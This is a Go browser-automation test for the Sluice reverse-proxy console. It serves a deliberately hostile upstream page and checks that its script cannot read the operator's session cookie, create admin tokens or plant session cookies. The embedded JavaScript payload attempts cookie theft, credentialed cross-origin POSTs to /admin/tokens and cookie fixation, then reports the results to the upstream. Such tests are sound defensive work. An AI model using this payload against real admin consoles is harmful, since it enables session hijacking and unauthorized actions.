package tests

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/sluicehq/sluice/internal/services"
)

// hostileUpstream is an upstream an operator declared, serving a page that
// tries to act as whoever opens it: its script reads document.cookie,
// posts to /admin/tokens (relative, and on the console's address, CORS and
// no-cors), tries to plant a session cookie, and reports what it saw to
// the upstream. Every response also sets cookies of Sluice's names. It
// records the Cookie header of every request it receives, and the reports.
type hostileUpstream struct {
	*httptest.Server
	mu      sync.Mutex
	cookies []string
	reports []hostileReport
}

type hostileReport struct {
	Cookie string   `json:"cookie"`
	Posts  []string `json:"posts"`
}

const hostilePage = `<!doctype html><title>hostile</title>
<script>
(async () => {
  const out = {cookie: "", posts: []};
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "blocked: " + e.name; }
  for (const u of ["/admin/tokens", CONSOLE + "/admin/tokens"]) {
    for (const mode of ["cors", "no-cors"]) {
      try {
        const r = await fetch(u, {method: "POST", mode, credentials: "include",
          headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "name=pwned"});
        out.posts.push(u + " " + mode + " " + r.status);
      } catch (e) { out.posts.push(u + " " + mode + " " + e.name); }
    }
  }
  try { document.cookie = "sluice_session=tossed; path=/"; } catch (e) {}
  await fetch("report", {method: "POST", body: JSON.stringify(out)});
  document.title = "done";
})();
</script>`

func newHostileUpstream(t *testing.T, console string) *hostileUpstream {
	t.Helper()
	u := &hostileUpstream{}
	u.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.cookies = append(u.cookies, r.Header.Values("Cookie")...)
		u.mu.Unlock()
		h := w.Header()
		h.Add("Set-Cookie", "sluice_session=evil; Path=/; HttpOnly")
		h.Add("Set-Cookie", "__Host-sluice_session=evil; Path=/; Secure")
		h.Add("Set-Cookie", "sluice_secret_once=evil; Path=/")
		switch r.URL.Path {
		case "/report":
			var rep hostileReport
			if err := json.NewDecoder(io.LimitReader(r.Body, 1<<16)).Decode(&rep); err == nil {
				u.mu.Lock()
				u.reports = append(u.reports, rep)
				u.mu.Unlock()
			}
			w.WriteHeader(http.StatusNoContent)
		case "/ready":
			io.WriteString(w, "ready")
		default:
			h.Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, strings.Replace(hostilePage, "CONSOLE", `"`+console+`"`, 1))
		}
	}))
	t.Cleanup(u.Close)
	return u
}

func (u *hostileUpstream) seen() ([]string, []hostileReport) {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.cookies...), append([]hostileReport(nil), u.reports...)
}

// cookiesFor returns the browser's cookies for the URLs.
func cookiesFor(urls ...string) chromedp.Action[[]*network.Cookie] {
	return func(ctx context.Context, tg *chromedp.Target) ([]*network.Cookie, error) {
		res, err := cdp.Call(ctx, tg, network.GetCookies, network.GetCookiesParams{URLs: urls})
		return res.Cookies, err
	}
}

// TestHostileUpstreamPageCanDoNothing: an operator signed in opens a
// hostile upstream's page through the reverse proxy, by the console's
// /proxy/ address and by the service's host name on the proxy's own
// listener (issue 30, items 1 and 2). Its script can do nothing: no token
// is created, the upstream never receives the session cookie, the browser
// never takes a Sluice cookie from the upstream, and the operator stays
// signed in.
func TestHostileUpstreamPageCanDoNothing(t *testing.T) {
	p := startPortalWith(t, portalConfig{env: map[string]string{"PORTAL_PROXY_ADDR": "127.0.0.1:0"}})
	proxyPort := p.ProxyURL[strings.LastIndexByte(p.ProxyURL, ':')+1:]
	api := newHostileUpstream(t, p.URL)
	ctx := context.Background()
	if _, err := services.NewRepo(p.Pool).Create(ctx, "test", services.Input{Slug: "hostile", Name: "Hostile",
		Hosts: []string{"hostile.localhost"}, Upstream: api.URL, Routes: []string{"GET /hostile", "POST /report"}}); err != nil {
		t.Fatal(err)
	}
	if took, ok := eventually(10*time.Second, func() bool {
		// The console's address as an operator would open it (the client
		// follows its redirect).
		status, _ := httpGet(t, p.URL+"/proxy/hostile/ready")
		return status == http.StatusOK
	}); !ok {
		t.Fatalf("the proxy did not serve the new service within %v", took)
	}

	b := browser(t, 90*time.Second)
	signIn(t, b, p.URL, operatorEmail)
	console, err := chromedp.Run(b, cookiesFor(p.URL))
	if err != nil || len(console) != 1 || console[0].Name != "sluice_session" || !console[0].HTTPOnly {
		t.Fatalf("after sign-in the browser holds %v (%v), want one HttpOnly sluice_session", console, err)
	}
	session := console[0].Value

	t.Run("ThroughTheConsolesProxyAddress", func(t *testing.T) {
		// The console answers its /proxy/ with a redirect to the proxy's
		// listener: another origin, whose page is sandboxed (it shares
		// the console's host name, so its cookie jar).
		do(t, b, "open the hostile page through the console",
			chromedp.Navigate(p.URL+"/proxy/hostile/hostile"),
			chromedp.Poll[chromedp.Void](`document.readyState === "complete"`))
		loc, err := chromedp.Run(b, chromedp.Location())
		if err != nil || p.ProxyURL == "" || !strings.HasPrefix(loc, p.ProxyURL+"/proxy/hostile/") {
			t.Errorf("the page is at %q (%v), want the proxy's listener %s", loc, err, p.ProxyURL)
		}
		cookie, err := chromedp.Run(b, chromedp.Evaluate[string](`(() => { try { return "read: " + document.cookie } catch (e) { return "blocked: " + e.name } })()`))
		if err != nil || !strings.HasPrefix(cookie, "blocked") {
			t.Errorf("document.cookie on the proxied page: %q (%v), want blocked by the sandbox", cookie, err)
		}
	})

	t.Run("ByHostNameOnTheProxysListener", func(t *testing.T) {
		// On its own host name the page is not sandboxed: its script runs
		// and reports, and still reaches nothing of the console's.
		if p.ProxyURL == "" {
			t.Fatal("the portal printed no reverse proxy address")
		}
		do(t, b, "open the hostile page by its host name",
			chromedp.Navigate("http://hostile.localhost:"+proxyPort+"/hostile"),
			chromedp.Poll[chromedp.Void](`document.title === "done"`, chromedp.WithPollingTimeout(30*time.Second)))
		_, reports := api.seen()
		if len(reports) != 1 {
			t.Fatalf("%d reports from the page's script, want 1", len(reports))
		}
		if strings.Contains(reports[0].Cookie, "sluice") {
			t.Errorf("the page's script read cookies %q", reports[0].Cookie)
		}
		t.Logf("what the script got: %q", reports[0].Posts)
	})

	var tokens int
	if err := p.Pool.QueryRow(ctx, `SELECT count(*) FROM operator_tokens`).Scan(&tokens); err != nil {
		t.Fatal(err)
	}
	if tokens != 0 {
		t.Errorf("%d operator tokens created, want 0", tokens)
	}
	cookies, _ := api.seen()
	for _, c := range cookies {
		if strings.Contains(c, session) || strings.Contains(strings.ToLower(c), "sluice_") {
			t.Errorf("the upstream received Cookie %q", c)
		}
	}
	// The console's host name (its listener and the proxy's) holds the
	// session cookie alone; the service's own host name holds no cookie
	// the upstream set under Sluice's names (its script may set any
	// cookie of its own host, which the console never sees).
	mine, err := chromedp.Run(b, cookiesFor(p.URL, p.ProxyURL))
	if err != nil {
		t.Fatal(err)
	}
	if len(mine) != 1 || mine[0].Name != "sluice_session" || mine[0].Value != session {
		for _, c := range mine {
			t.Errorf("for the console's host name the browser holds %s=%s (path %s)", c.Name, c.Value, c.Path)
		}
	}
	theirs, err := chromedp.Run(b, cookiesFor("http://hostile.localhost:"+proxyPort))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range theirs {
		if c.Value == "evil" {
			t.Errorf("the browser took the upstream's cookie %s=%s", c.Name, c.Value)
		}
	}
	do(t, b, "still signed in", chromedp.Navigate(p.URL+"/admin"), chromedp.WaitVisible(tid("viewer-email")))
}
